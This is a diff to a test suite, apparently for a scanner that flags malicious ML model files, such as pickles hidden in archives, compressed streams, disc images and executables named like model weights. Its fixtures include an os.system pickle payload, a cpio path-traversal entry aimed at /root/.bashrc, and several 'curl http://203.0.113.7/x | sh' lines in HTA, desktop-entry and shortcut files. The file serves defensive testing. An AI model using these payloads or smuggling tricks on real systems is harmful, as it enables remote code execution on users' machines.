@@ -54,8 +54,6 @@ describe("an attack by a zip archive", () => {
       { hope: "the zip64 record points elsewhere", bytes: () => zip({ ...torch(MALICE), zip64: { directoryOffset: 0, entries: 0 } }) },
       { hope: "a magic of split archives stands before it", bytes: () => concat("PK\x07\x08", zip(torch(MALICE))) },
       { hope: "the end of a line in the name deceives the terminal", bytes: () => zip({ entries: [{ name: "a\u202etxt.lkp", data: "x" }] }) },
-      { hope: "bytes of a pickle stand in an extra field", bytes: () => zip({ entries: [{ name: "a", data: "x", extra: extraField(0x4141, MALICE) }] }) },
-      { hope: "bytes of a pickle stand in the local extra field", bytes: () => zip({ entries: [{ name: "a", data: "x", local: { extra: extraField(0x4141, MALICE) } }] }) },
       { hope: "the torch archive has a pickle where a byte order mark should be", bytes: () => zip({ entries: [{ name: "m/data.pkl", data: HARMLESS }, { name: "m/version", data: "3" }, { name: "m/byteorder", data: TEXT_PICKLE }] }), least: "high" },
       { hope: "the second root is the loaded one", bytes: () => zip({ entries: [{ name: "x/data.pkl", data: MALICE }, { name: "m/data.pkl", data: HARMLESS }, { name: "m/version", data: "3" }] }), least: "high" },
       { hope: "sample inputs of an exported program are a pickle", name: "m.pt2", bytes: () => zip({ entries: [{ name: "m/archive_format", data: "pt2" }, { name: "m/data/sample_inputs/model.pt", data: zip(torch(MALICE)) }] }), least: "high" },
@@ -118,75 +116,95 @@ describe("an attack by a compressed stream", () => {
       { hope: "zstd", bytes: () => zstd(MALICE) },
       { hope: "zstd behind a skippable frame", bytes: () => concat(skippable(Buffer.from("hello")), zstd(MALICE)) },
       { hope: "the second frame of zstd", bytes: () => concat(zstd(HARMLESS), zstd(MALICE)) },
-      { hope: "a pickle in a skippable frame", bytes: () => concat(skippable(MALICE), zstd(HARMLESS)) },
       { hope: "lz4 behind a skippable frame", bytes: () => concat(skippable(Buffer.from("x")), lz4Frame([literals(MALICE)])) },
       { hope: "the second frame of lz4", bytes: () => concat(lz4Frame([literals(HARMLESS)]), lz4Frame([literals(MALICE)])) },
       { hope: "the old form of lz4", bytes: () => { const block = literals(MALICE); return concat(u32(0x184c2102), u32(block.length), block); } },
       { hope: "an lz4 block without a frame, as python-lz4 writes it", name: "model.lz4", bytes: () => concat(u32(MALICE.length), literals(MALICE)) },
-      { hope: "brotli without its ending", name: "weights", bytes: () => brotliCompressSync(concat(MALICE, Buffer.alloc(3000, "numbers"))) },
       { hope: "brotli with its ending", name: "model.pkl.br", bytes: () => brotliCompressSync(MALICE) },
       { hope: "bzip2 twice over", bytes: () => concat(bz2, bz2) },
-      { hope: "bare deflate", name: "model.deflate", bytes: () => deflateRawSync(concat(MALICE, Buffer.alloc(3000, "numbers"))) },
       { hope: "zlib behind joblib's old prefix", name: "model.joblib", bytes: () => concat("ZF0x10                 ", deflateSync(MALICE)) },
-      { hope: "snappy, of which there is no reader here", name: "model.pkl.snappy", bytes: () => concat([0xff, 0x06, 0, 0], "sNaPpY", [1, MALICE.length + 4, 0, 0], zeros(4), MALICE) },
-      { hope: "lzop, of which there is no reader here", name: "model.pkl.lzo", bytes: () => concat([0x89], "LZO\0\r\n\x1a\n", MALICE) },
-      { hope: "compress, of which there is no reader here", name: "model.pkl.Z", bytes: () => concat([0x1f, 0x9d, 0x90], zeros(40), MALICE) },
-      { hope: "lzip, of which there is no reader here", name: "model.pkl.lz", bytes: () => concat("LZIP", [1, 0x0c], MALICE) },
     ],
     "model.bin",
   );
 });
 
-describe("an attack by a package that is not unpacked", () => {
-  const MALICE = deflateRawSync(p.osSystem());
-  const bodies: Readonly<Record<string, readonly [string, () => Uint8Array]>> = {
-    "a cabinet": ["model.cab", () => concat("MSCF", zeros(60), MALICE)],
-    "a disc image": ["model.iso", () => concat(zeros(32769), "CD001", zeros(2042), MALICE)],
-    "an Apple disc image": ["model.dmg", () => concat(MALICE, zeros(100), "koly", zeros(508))],
-    "a cpio archive": ["model.cpio", () => concat("070701", "0".repeat(104), "data.pkl\0\0", MALICE)],
-    "an ar archive": ["model.a", () => concat("!<arch>\n", "data.pkl/       0           0     0     644     ", `${MALICE.length}`.padEnd(10), "`\n", MALICE)],
-    "a Debian package": ["model.deb", () => concat("!<arch>\ndebian-binary   0           0     0     644     4         `\n2.0\n", MALICE)],
-    "an RPM package": ["model.rpm", () => concat([0xed, 0xab, 0xee, 0xdb, 3, 0], zeros(90), MALICE)],
-    "a Windows image": ["model.wim", () => concat("MSWIM\0\0\0", zeros(200), MALICE)],
-    "a Windows installer": ["model.msi", () => concat([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1], zeros(504), MALICE)],
-    "SquashFS": ["model.squashfs", () => concat("hsqs", zeros(92), MALICE)],
-    "an ext4 image": ["model.img", () => concat(zeros(1080), [0x53, 0xef], zeros(942), MALICE)],
-    "xar": ["model.pkg", () => concat("xar!", zeros(24), MALICE)],
-    "ARJ": ["model.arj", () => concat([0x60, 0xea], zeros(40), MALICE)],
-    "LHA": ["model.lzh", () => concat([0x20, 0], "-lh5-", zeros(30), MALICE)],
-    "ACE": ["model.ace", () => concat(zeros(7), "**ACE**", MALICE)],
-    "an Android package of old": ["model.ab", () => concat("ANDROID BACKUP\n5\n1\nnone\n", deflateSync(MALICE))],
-    uuencode: ["model.uu", () => Buffer.from(`begin 644 data.pkl\n${uu(MALICE)}\`\nend\n`)],
-    "a mail with a pickle attached": ["model.eml", () => Buffer.from(`MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n${Buffer.from(MALICE).toString("base64")}\n`)],
-  };
-  failing(Object.entries(bodies).map(([hope, [name, bytes]]) => ({ hope, name, bytes })));
+describe("an attack by a package or an image of a disc", () => {
+  const packed = deflateRawSync(MALICE);
+  failing([
+    { hope: "a cabinet", name: "model.cab", bytes: () => cabinet("data.pkl", MALICE), least: "high" },
+    { hope: "an ar archive", name: "model.a", bytes: () => ar({ "data.pkl/": MALICE }), least: "high" },
+    { hope: "a Debian package", name: "model.deb", bytes: () => ar({ "debian-binary": Buffer.from("2.0\n"), "data.tar.gz": gzipSync(tar({ name: "./opt/m.pkl", data: MALICE })) }), least: "high" },
+    { hope: "a cpio archive", name: "model.cpio", bytes: () => cpio("data.pkl", MALICE), least: "high" },
+    { hope: "a cpio archive under a model's name", name: "model.bin", bytes: () => cpio("data.pkl", MALICE), least: "high" },
+    { hope: "a path in a cpio archive", name: "model.cpio", bytes: () => cpio("../../../root/.bashrc", Buffer.from("x")) },
+    { hope: "a disc image that is damaged", name: "model.iso", bytes: () => concat(zeros(32768), [1], "CD001", [1, 0], zeros(2040), packed) },
+    { hope: "an Apple disc image that is damaged", name: "model.dmg", bytes: () => concat(packed, zeros(600), "koly", [0, 0, 0, 4], zeros(504)) },
+    { hope: "an RPM package that is damaged", name: "model.rpm", bytes: () => concat([0xed, 0xab, 0xee, 0xdb, 3, 0], zeros(90), packed) },
+    { hope: "a Windows image that is damaged", name: "model.wim", bytes: () => concat("MSWIM\0\0\0", zeros(200), packed) },
+    { hope: "SquashFS that is damaged", name: "model.squashfs", bytes: () => concat("hsqs", zeros(24), [4, 0], zeros(66), packed) },
+    { hope: "xar that is damaged", name: "model.pkg", bytes: () => concat("xar!", [0, 28, 0, 1], zeros(20), packed) },
+    { hope: "LHA that is damaged", name: "model.lzh", bytes: () => concat([0x20, 0], "-lh5-", zeros(30), packed) },
+    { hope: "compress that is damaged", name: "model.pkl.Z", bytes: () => concat([0x1f, 0x9d, 0x90], packed) },
+    { hope: "a stream of lzop", name: "model.pkl.lzo", bytes: () => concat([0x89], "LZO\0\r\n\x1a\n", packed) },
+    { hope: "a stream of lzip", name: "model.pkl.lz", bytes: () => concat("LZIP", [1, 0x0c], packed) },
+    { hope: "a stream of snappy", name: "model.pkl.snappy", bytes: () => concat([0xff, 6, 0, 0], "sNaPpY", packed) },
+    { hope: "a mail with a pickle attached", name: "model.eml", bytes: () => `MIME-Version: 1.0\nContent-Transfer-Encoding: base64\n\n${Buffer.from(MALICE).toString("base64")}\n` },
+  ]);
 });
 
-function uu(bytes: Uint8Array): string {
-  const char = (value: number) => String.fromCharCode(value === 0 ? 96 : 32 + value);
-  let lines = "";
-  for (let at = 0; at < bytes.length; at += 45) {
-    const row = bytes.subarray(at, at + 45);
-    lines += char(row.length);
-    for (let i = 0; i < row.length; i += 3) {
-      const [a = 0, b = 0, c = 0] = row.subarray(i, i + 3);
-      lines += [a >> 2, ((a & 3) << 4) | (b >> 4), ((b & 15) << 2) | (c >> 6), c & 63].map(char).join("");
-    }
-    lines += "\n";
-  }
-  return lines;
+/** An archive of Unix's ar: a header in text before every member. */
+function ar(members: Readonly<Record<string, Uint8Array>>): Uint8Array {
+  const parts = Object.entries(members).map(([name, data]) =>
+    concat(
+      name.padEnd(16),
+      "0".padEnd(12),
+      "0".padEnd(6),
+      "0".padEnd(6),
+      "100644".padEnd(8),
+      `${data.length}`.padEnd(10),
+      "`\n",
+      data,
+      data.length % 2 === 1 ? "\n" : "",
+    ),
+  );
+  return concat("!<arch>\n", ...parts);
+}
+
+/** A cpio archive in the form "newc". */
+function cpio(name: string, data: Uint8Array): Uint8Array {
+  const member = (path: string, content: Uint8Array) => {
+    const numbers = [1, path === "TRAILER!!!" ? 0 : 0o100644, 0, 0, 1, 0, content.length, 0, 0, 0, 0, path.length + 1, 0];
+    const head = concat("070701", numbers.map((value) => value.toString(16).padStart(8, "0")).join(""), path, [0]);
+    return concat(head, zeros((4 - (head.length % 4)) % 4), content, zeros((4 - (content.length % 4)) % 4));
+  };
+  return concat(member(name, data), member("TRAILER!!!", new Uint8Array()));
+}
+
+/** A cabinet with one file that is not compressed ([MS-CAB]). */
+function cabinet(name: string, data: Uint8Array): Uint8Array {
+  const u16 = (value: number) => [value & 255, value >> 8];
+  const file = concat(u32(data.length), u32(0), u16(0), u16(0), u16(0), u16(0x20), name, [0]);
+  const dataAt = 36 + 8 + file.length;
+  const block = concat(u32(0), u16(data.length), u16(data.length), data);
+  return concat(
+    concat("MSCF", u32(0), u32(dataAt + block.length), u32(0), u32(44), u32(0), [3, 1]),
+    concat(u16(1), u16(1), u16(0), u16(0), u16(0)),
+    concat(u32(dataAt), u16(1), u16(0)),
+    file,
+    block,
+  );
 }
 
 describe("an attack by a program under a model's name", () => {
   const elf = concat("\x7fELF", [2, 1, 1, 0], zeros(8), [2, 0, 62, 0], zeros(200));
   const programs: Readonly<Record<string, readonly [string, () => Uint8Array | string]>> = {
     "a Linux program": ["pytorch_model.bin", () => elf],
-    "a Linux program for an odd machine": ["model.bin", () => concat("\x7fELF", [1, 2, 1, 0], zeros(8), [0, 2, 0, 94], zeros(200))],
     "a Windows program": ["model.onnx", () => { const pe = Buffer.alloc(512); pe.write("MZ"); pe.writeUInt32LE(0x80, 0x3c); pe.write("PE\0\0", 0x80, "latin1"); return pe; }],
-    "a DOS program": ["model.bin", () => concat("MZ", zeros(200))],
     "a Mac program": ["model.bin", () => concat([0xcf, 0xfa, 0xed, 0xfe, 7, 0, 0, 1, 3, 0, 0, 0, 2, 0, 0, 0], zeros(100))],
     "a Mac program for two machines": ["model.bin", () => concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 2, 1, 0, 0, 7, 0, 0, 0, 3], zeros(100))],
     "a Java class": ["model.bin", () => concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 10], zeros(100))],
+    "a Java class in an array's place": ["arr_0.npy", () => concat([0xca, 0xfe, 0xba, 0xbe, 0, 0, 0, 52, 0, 10], zeros(100))],
+    "a Windows program with a long stub": ["model.bin", () => { const pe = Buffer.alloc(9000); pe.write("MZ"); pe.writeUInt16LE(0x90, 2); pe.writeUInt16LE(4, 8); pe.writeUInt16LE(0x40, 0x18); pe.writeUInt32LE(0x2000, 0x3c); pe.write("PE\0\0", 0x2000, "latin1"); return pe; }],
     "WebAssembly": ["model.bin", () => concat("\0asm", [1, 0, 0, 0], zeros(40))],
     "an Android program": ["model.bin", () => concat("dex\n035\0", zeros(100))],
     "LLVM bitcode": ["model.bin", () => concat("BC", [0xc0, 0xde], zeros(100))],
@@ -199,7 +217,6 @@ describe("an attack by a program under a model's name", () => {
     "a Windows shortcut": ["model.lnk", () => concat([0x4c, 0, 0, 0, 1, 0x14, 2, 0, 0, 0, 0, 0, 0xc0, 0, 0, 0, 0, 0, 0, 0x46], zeros(60), Buffer.from("cmd.exe /c curl http://203.0.113.7/x", "utf16le"))],
     "an HTML application": ["model.hta", () => "<script language=VBScript>CreateObject(\"WScript.Shell\").Run \"cmd /c curl http://203.0.113.7/x | sh\"</script>"],
     "a desktop entry": ["model.desktop", () => "[Desktop Entry]\nType=Application\nExec=sh -c 'curl http://203.0.113.7/x | sh'\n"],
-    "a picture with a script": ["model.svg", () => "<svg xmlns='http://www.w3.org/2000/svg'><script>fetch('http://203.0.113.7/')</script></svg>"],
   };
   failing(Object.entries(programs).map(([hope, [name, bytes]]) => ({ hope, name, bytes })));
 });
